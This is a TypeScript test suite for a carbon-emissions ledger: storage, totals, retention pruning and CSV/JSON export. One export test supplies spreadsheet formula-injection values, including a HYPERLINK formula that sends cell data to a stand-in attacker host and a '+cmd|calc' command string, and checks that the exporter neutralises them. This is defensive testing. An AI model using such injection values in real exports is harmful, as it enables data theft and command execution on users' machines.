import * as assert from 'node:assert/strict';
import { appendFileSync, mkdtempSync, promises as fsp, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { csvField, Ledger, sciRecordProblem, type LedgerFs, totalsOf } from '../../src/core/carbon/ledger';
import { LIVE_SOURCE_IDS, SOURCE_IDS, type Route, type SciRecord } from '../../src/core/carbon/types';
import { CARBON_SOURCES } from '../../src/core/settings';

interface Spec {
  route?: Route;
  model?: string;
  tokensIn?: number;
  tokensOut?: number;
  kWh?: number;
  operationalG?: number;
  embodiedG?: number;
  baselineG?: number;
}

// Dyadic numbers (0.5, 0.125…) so that the hand-computed sums are exact in floating point.
function rec(id: string, ts: string, s: Spec = {}): SciRecord {
  const kWh = s.kWh ?? 0.25;
  const operationalG = s.operationalG ?? 1;
  const embodiedG = s.embodiedG ?? 0.5;
  const sciG = operationalG + embodiedG;
  const baselineG = s.baselineG ?? 4;
  return {
    id,
    ts,
    route: s.route ?? 'local',
    feature: 'inline-completion',
    model: s.model ?? 'qwen2.5-coder-1.5b',
    tokens: { in: s.tokensIn ?? 100, out: s.tokensOut ?? 20 },
    energy: { kWh, rangeKWh: [kWh / 2, kWh * 2], method: 'tdp-model', measured: false },
    intensity: { gPerKWh: 50, source: 'embedded', zone: 'FR', signal: 'average', isEstimated: true },
    operationalG,
    embodiedG,
    sciG,
    rangeG: [sciG / 2, sciG * 2],
    baseline: { route: 'cloud', model: 'gpt-4o', sciG: baselineG },
    savedG: baselineG - sciG,
  };
}

const A = rec('a', '2026-11-03T10:00:00.000Z', {
  route: 'local',
  tokensIn: 100,
  tokensOut: 20,
  kWh: 0.25,
  operationalG: 1,
  embodiedG: 0.5,
  baselineG: 4,
});
const B = rec('b', '2026-11-03T23:30:00.000Z', {
  route: 'cloud',
  tokensIn: 300,
  tokensOut: 40,
  kWh: 0.5,
  operationalG: 2,
  embodiedG: 0.25,
  baselineG: 3,
});
const C = rec('c', '2026-11-04T00:15:00.000Z', {
  route: 'local',
  tokensIn: 50,
  tokensOut: 10,
  kWh: 0.125,
  operationalG: 0.5,
  embodiedG: 0.125,
  baselineG: 2,
});
const D = rec('d', '2026-11-04T12:00:00.000Z', { route: 'cloud', tokensIn: 200, tokensOut: 80, kWh: 1, operationalG: 4, embodiedG: 1, baselineG: 4 });

const made: string[] = [];
function tempDir(): string {
  const dir = mkdtempSync(path.join(os.tmpdir(), 'verdant-ledger-'));
  made.push(dir);
  return dir;
}
const NOV = 'ledger-2026-11.jsonl';
const lines = (file: string) => readFileSync(file, 'utf8').split('\n');

async function ledgerWith(...records: SciRecord[]): Promise<{ ledger: Ledger; dir: string }> {
  const dir = tempDir();
  const ledger = new Ledger({ dir });
  for (const r of records) await ledger.append(r);
  return { ledger, dir };
}

describe('carbon ledger', () => {
  after(() => {
    for (const dir of made) rmSync(dir, { recursive: true, force: true });
  });

  it('round-trips records through one JSON line each, in the UTC month file of their ts', async () => {
    const { ledger, dir } = await ledgerWith(B, A, D, C);
    assert.deepEqual(readdirSync(dir), [NOV]);
    const text = lines(path.join(dir, NOV));
    assert.equal(text.length, 5, 'four lines, each ended by a newline');
    assert.equal(text[4], '');
    for (const l of text.slice(0, 4)) assert.match(l, /^\{"id":"[abcd]",/);
    const { records, problems } = await ledger.read();
    assert.deepEqual(problems, []);
    assert.deepEqual(records, [A, B, C, D], 'ordered by ts');
    assert.deepEqual(await new Ledger({ dir: path.join(dir, 'none') }).read(), { records: [], problems: [] });
  });

  it('reads a range from the month files it overlaps only', async () => {
    const oct = rec('oct', '2026-10-31T23:59:59.999Z');
    const nov1 = rec('nov1', '2026-11-01T00:00:00Z');
    const offset = rec('offset', '2026-12-01T00:30:00+01:00'); // 23:30 on 30 November, UTC
    const dec = rec('dec', '2026-12-01T00:00:00.000Z');
    const { dir } = await ledgerWith(oct, nov1, offset, dec, A);
    assert.deepEqual(readdirSync(dir).sort(), ['ledger-2026-10.jsonl', NOV, 'ledger-2026-12.jsonl']);
    const opened: string[] = [];
    const fs: LedgerFs = {
      mkdir: fsp.mkdir,
      open: fsp.open,
      readdir: fsp.readdir,
      unlink: fsp.unlink,
      readFile: ((file: string, options: BufferEncoding) => {
        opened.push(path.basename(file));
        return fsp.readFile(file, options);
      }) as LedgerFs['readFile'],
    };
    const ledger = new Ledger({ dir, fs });
    const nov = await ledger.read({ since: new Date('2026-11-01T00:00:00Z'), until: new Date('2026-12-01T00:00:00Z') });
    assert.deepEqual(
      nov.records.map((r) => r.id),
      ['nov1', 'a', 'offset'],
    );
    assert.deepEqual(opened, [NOV]);
    opened.length = 0;
    const day = await ledger.read({ since: new Date('2026-11-03T00:00:00Z'), until: new Date('2026-11-04T00:00:00Z') });
    assert.deepEqual(day.records, [A]);
    assert.deepEqual(opened, [NOV], 'one day opens one month file');
    assert.deepEqual(
      (await ledger.read({ since: new Date('2026-11-30T23:30:00Z') })).records.map((r) => r.id),
      ['offset', 'dec'],
    );
    await assert.rejects(ledger.read({ since: new Date('not a date') }), RangeError);
  });

  it('totals by day, route and day+route with hand-computed sums', async () => {
    const { ledger } = await ledgerWith(A, B, C, D);
    const zero = { count: 0, tokensIn: 0, tokensOut: 0, energyKWh: 0, operationalG: 0, embodiedG: 0, sciG: 0, baselineG: 0, savedG: 0 };
    const byDay = await ledger.totals({ groupBy: 'day' });
    assert.deepEqual(byDay.problems, []);
    assert.deepEqual(byDay.rows, [
      {
        ...zero,
        day: '2026-11-03',
        count: 2,
        tokensIn: 400,
        tokensOut: 60,
        energyKWh: 0.75,
        operationalG: 3,
        embodiedG: 0.75,
        sciG: 3.75,
        baselineG: 7,
        savedG: 3.25,
      },
      {
        ...zero,
        day: '2026-11-04',
        count: 2,
        tokensIn: 250,
        tokensOut: 90,
        energyKWh: 1.125,
        operationalG: 4.5,
        embodiedG: 1.125,
        sciG: 5.625,
        baselineG: 6,
        savedG: 0.375,
      },
    ]);
    assert.deepEqual((await ledger.totals({ groupBy: 'route' })).rows, [
      {
        ...zero,
        route: 'cloud',
        count: 2,
        tokensIn: 500,
        tokensOut: 120,
        energyKWh: 1.5,
        operationalG: 6,
        embodiedG: 1.25,
        sciG: 7.25,
        baselineG: 7,
        savedG: -0.25,
      },
      {
        ...zero,
        route: 'local',
        count: 2,
        tokensIn: 150,
        tokensOut: 30,
        energyKWh: 0.375,
        operationalG: 1.5,
        embodiedG: 0.625,
        sciG: 2.125,
        baselineG: 6,
        savedG: 3.875,
      },
    ]);
    const single = (day: string, r: SciRecord) => ({
      day,
      route: r.route,
      count: 1,
      tokensIn: r.tokens.in,
      tokensOut: r.tokens.out,
      energyKWh: r.energy.kWh,
      operationalG: r.operationalG,
      embodiedG: r.embodiedG,
      sciG: r.sciG,
      baselineG: r.baseline.sciG,
      savedG: r.savedG,
    });
    assert.deepEqual((await ledger.totals({ groupBy: 'day+route' })).rows, [
      single('2026-11-03', B),
      single('2026-11-03', A),
      single('2026-11-04', D),
      single('2026-11-04', C),
    ]);
    // One hour ahead of UTC, B (23:30Z) falls on the 4th; so does C.
    const local = await ledger.totals({ groupBy: 'day', utcOffsetMinutes: 60 });
    assert.deepEqual(
      local.rows.map((r) => [r.day, r.count, r.sciG]),
      [
        ['2026-11-03', 1, 1.5],
        ['2026-11-04', 3, 7.875],
      ],
    );
    // Five hours behind, C (00:15Z) falls on the 3rd.
    assert.deepEqual(
      totalsOf([A, B, C, D], 'day', -300).map((r) => [r.day, r.count]),
      [
        ['2026-11-03', 3],
        ['2026-11-04', 1],
      ],
    );
    const range = await ledger.totals({ groupBy: 'route', since: new Date('2026-11-04T00:00:00Z') });
    assert.deepEqual(
      range.rows.map((r) => [r.route, r.count, r.tokensIn]),
      [
        ['cloud', 1, 200],
        ['local', 1, 50],
      ],
    );
    assert.throws(() => totalsOf([A], 'day', 24 * 60), RangeError);
  });

  it('counts a record written twice (a retry) once', async () => {
    const { ledger, dir } = await ledgerWith(A, B, A, { ...A, sciG: 99 });
    assert.equal(lines(path.join(dir, NOV)).filter(Boolean).length, 4);
    const { records, problems } = await ledger.read();
    assert.deepEqual(problems, []);
    assert.deepEqual(records, [A, B], 'the first line of an id wins');
    assert.deepEqual(
      (await ledger.totals({ groupBy: 'route' })).rows.map((r) => [r.route, r.count, r.sciG]),
      [
        ['cloud', 1, 2.25],
        ['local', 1, 1.5],
      ],
    );
  });

  it('keeps the call order of concurrent appends from one instance', async () => {
    const dir = tempDir();
    const ledger = new Ledger({ dir });
    const many = Array.from({ length: 40 }, (_, i) => rec(`r${i}`, '2026-11-05T08:00:00Z'));
    await Promise.all(many.map((r) => ledger.append(r)));
    assert.deepEqual(
      lines(path.join(dir, NOV))
        .filter(Boolean)
        .map((l) => JSON.parse(l).id),
      many.map((r) => r.id),
    );
    assert.equal((await ledger.read()).records.length, 40);
  });

  it('refuses to append what it could not read back, and writes nothing', async () => {
    const dir = tempDir();
    const ledger = new Ledger({ dir });
    await assert.rejects(ledger.append({ ...A, ts: '2026-11-03 10:00' }), /Not a ledger record: ts/);
    await assert.rejects(ledger.append({ ...A, id: '' }), /id/);
    await assert.rejects(ledger.append({ ...A, tokens: { in: -1, out: 0 } }), /tokens/);
    await assert.rejects(ledger.append({ ...A, sciG: Number.NaN }), /sciG/);
    assert.deepEqual(readdirSync(dir), []);
    await ledger.append(A); // a failed append does not block the queue
    assert.deepEqual((await ledger.read()).records, [A]);
  });

  it('exports CSV per RFC 4180: header, CRLF, commas, quotes and newlines quoted', async () => {
    const odd = rec('odd', '2026-11-05T09:00:00.000Z', { model: 'acme, "fast"\nv2' });
    const { ledger } = await ledgerWith(A, odd);
    const csv = await ledger.export('csv');
    const header =
      'ts,route,feature,model,tokens_in,tokens_out,energy_kwh,energy_method,intensity_g_per_kwh,intensity_source,zone,operational_g,embodied_g,sci_g,baseline_model,baseline_g,saved_g,range_low_g,range_high_g';
    assert.equal(
      csv,
      [
        header,
        '2026-11-03T10:00:00.000Z,local,inline-completion,qwen2.5-coder-1.5b,100,20,0.25,tdp-model,50,embedded,FR,1,0.5,1.5,gpt-4o,4,2.5,0.75,3',
        '2026-11-05T09:00:00.000Z,local,inline-completion,"acme, ""fast""\nv2",100,20,0.25,tdp-model,50,embedded,FR,1,0.5,1.5,gpt-4o,4,2.5,0.75,3',
        '',
      ].join('\r\n'),
    );
    const rows = parseCsv(csv);
    assert.equal(rows.length, 3);
    assert.ok(rows.every((r) => r.length === 19));
    assert.equal(rows[2]![3], 'acme, "fast"\nv2');
    assert.equal(await ledger.export('csv', { until: new Date('2000-01-01T00:00:00Z') }), header + '\r\n');
  });

  it('exports CSV that a spreadsheet cannot run: text starting with = + - @ is not a formula; numbers stay numbers', async () => {
    const hostile = [
      rec('f1', '2026-11-05T09:00:00.000Z', { model: '=HYPERLINK("http://evil.example/?"&A1,"click")' }),
      rec('f2', '2026-11-05T09:01:00.000Z', { model: '+cmd|calc' }),
      rec('f3', '2026-11-05T09:02:00.000Z', { model: '-2+3' }),
      rec('f4', '2026-11-05T09:03:00.000Z', { model: '@SUM(A1:A9)' }),
      rec('f5', '2026-11-05T09:04:00.000Z', { model: '\t=1+1' }),
    ];
    const { ledger } = await ledgerWith(...hostile);
    const rows = parseCsv(await ledger.export('csv')).slice(1);
    assert.deepEqual(
      rows.map((r) => r[3]),
      ['\'=HYPERLINK("http://evil.example/?"&A1,"click")', "'+cmd|calc", "'-2+3", "'@SUM(A1:A9)", "'\t=1+1"],
    );
    assert.equal(csvField(-2.5), '-2.5', 'a negative number is a number, not a formula');
    assert.equal(csvField('local'), 'local');
  });

  it('exports JSON: the records as stored, within the range', async () => {
    const { ledger } = await ledgerWith(A, B, C, D);
    assert.deepEqual(JSON.parse(await ledger.export('json')), [A, B, C, D]);
    assert.deepEqual(JSON.parse(await ledger.export('json', { since: new Date('2026-11-04T00:00:00Z') })), [C, D]);
  });

  it('prunes whole month files older than the retention; 0 keeps everything', async () => {
    const dir = tempDir();
    const ledger = new Ledger({ dir, now: () => Date.parse('2026-11-15T00:00:00Z') });
    for (const ts of ['2025-12-31T23:00:00Z', '2026-08-10T00:00:00Z', '2026-09-30T23:59:59Z', '2026-10-02T00:00:00Z', '2026-11-14T00:00:00Z']) {
      await ledger.append(rec(ts, ts));
    }
    writeFileSync(path.join(dir, 'engine.lock'), '{}');
    writeFileSync(path.join(dir, 'ledger-notes.txt'), 'not a month file');
    const file = (m: string) => path.join(dir, `ledger-${m}.jsonl`);
    assert.deepEqual(await ledger.prune(0), { removedFiles: [] });
    assert.deepEqual(await ledger.prune(46), { removedFiles: [file('2025-12'), file('2026-08')] }, 'September ends after the cutoff (30 Sep)');
    assert.deepEqual(await ledger.prune(45), { removedFiles: [file('2026-09')] }, 'a month ending exactly at the cutoff (1 Oct) goes');
    assert.deepEqual(await ledger.prune(30), { removedFiles: [] }, 'October still holds records younger than 30 days');
    assert.deepEqual(readdirSync(dir).sort(), ['engine.lock', 'ledger-2026-10.jsonl', NOV, 'ledger-notes.txt']);
    assert.deepEqual(
      (await ledger.read()).records.map((r) => r.id),
      ['2026-10-02T00:00:00Z', '2026-11-14T00:00:00Z'],
    );
    await assert.rejects(ledger.prune(-1), RangeError);
  });

  it('skips and reports a torn last line, and the next append starts on a line of its own', async () => {
    const { ledger, dir } = await ledgerWith(A, B);
    const file = path.join(dir, NOV);
    appendFileSync(file, '{"id":"torn","ts":"2026-11-0');
    let read = await ledger.read();
    assert.deepEqual(read.records, [A, B]);
    assert.equal(read.problems.length, 1);
    assert.equal(read.problems[0]!.file, file);
    assert.equal(read.problems[0]!.line, 3);
    assert.match(read.problems[0]!.reason, /incomplete last line/);
    await ledger.append(C);
    assert.deepEqual(lines(file).slice(2), ['{"id":"torn","ts":"2026-11-0', JSON.stringify(C), '']);
    read = await ledger.read();
    assert.deepEqual(read.records, [A, B, C]);
    assert.deepEqual(
      read.problems.map((p) => [p.line, p.reason]),
      [[3, 'not JSON (a torn write or a hand edit)']],
    );
    // A last line that lacks only its newline is a complete record.
    appendFileSync(file, JSON.stringify(D));
    await ledger.append(rec('e', '2026-11-06T00:00:00Z'));
    read = await ledger.read();
    assert.deepEqual(
      read.records.map((r) => r.id),
      ['a', 'b', 'c', 'd', 'e'],
    );
    assert.equal(read.problems.length, 1);
  });

  it('reports garbage lines in the middle and reads the rest', async () => {
    const dir = tempDir();
    const file = path.join(dir, NOV);
    writeFileSync(
      file,
      [
        JSON.stringify(A),
        'garbage',
        '{"hello":1}',
        '[1,2]',
        '',
        JSON.stringify({ ...B, intensity: { ...B.intensity, source: 'guess' } }),
        JSON.stringify(C) + '\r',
        JSON.stringify(D),
        '',
      ].join('\n'),
    );
    const { records, problems } = await new Ledger({ dir }).read();
    assert.deepEqual(records, [A, C, D], 'CRLF tolerated, the empty line ignored');
    assert.deepEqual(problems, [
      { file, line: 2, reason: 'not JSON (a torn write or a hand edit)' },
      { file, line: 3, reason: 'not a ledger record: id is not a non-empty string' },
      { file, line: 4, reason: 'not a ledger record: not an object' },
      { file, line: 6, reason: 'not a ledger record: intensity is not {gPerKWh, source, zone, signal, isEstimated}' },
    ]);
  });

  it('recovers a record glued onto a torn fragment (the check-then-append race)', async () => {
    const dir = tempDir();
    const file = path.join(dir, NOV);
    writeFileSync(file, `${JSON.stringify(A)}\n{"id":"torn","ts":"2026-11-0${JSON.stringify(B)}\n`);
    const { records, problems } = await new Ledger({ dir }).read();
    assert.deepEqual(records, [A, B]);
    assert.equal(problems.length, 1);
    assert.equal(problems[0]!.line, 2);
    assert.match(problems[0]!.reason, /torn fragment.*kept/);
  });
});

/** A strict RFC 4180 reader, to check the export parses back to the same fields. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let i = 0;
  while (i < text.length) {
    if (text[i] === '"') {
      for (i++; ; i++) {
        if (text[i] === '"' && text[i + 1] === '"') {
          field += '"';
          i++;
        } else if (text[i] === '"') {
          i++;
          break;
        } else field += text[i];
      }
    } else if (text.startsWith('\r\n', i)) {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i += 2;
    } else if (text[i] === ',') {
      row.push(field);
      field = '';
      i++;
    } else {
      field += text[i];
      i++;
    }
  }
  return rows;
}

describe('intensity source ids: one list', () => {
  it('every source can be chosen in settings and is a readable ledger record', () => {
    assert.deepEqual(CARBON_SOURCES, ['auto', ...SOURCE_IDS]);
    assert.deepEqual(
      LIVE_SOURCE_IDS,
      SOURCE_IDS.filter((s) => s !== 'embedded'),
    );
    const pkg = JSON.parse(readFileSync('package.json', 'utf8'));
    assert.deepEqual(pkg.contributes.configuration.properties['verdant.carbon.source'].enum, [...CARBON_SOURCES]);
    for (const source of SOURCE_IDS) {
      const record = { ...A, intensity: { ...A.intensity, source } };
      assert.equal(sciRecordProblem(record), undefined, source);
    }
  });
});
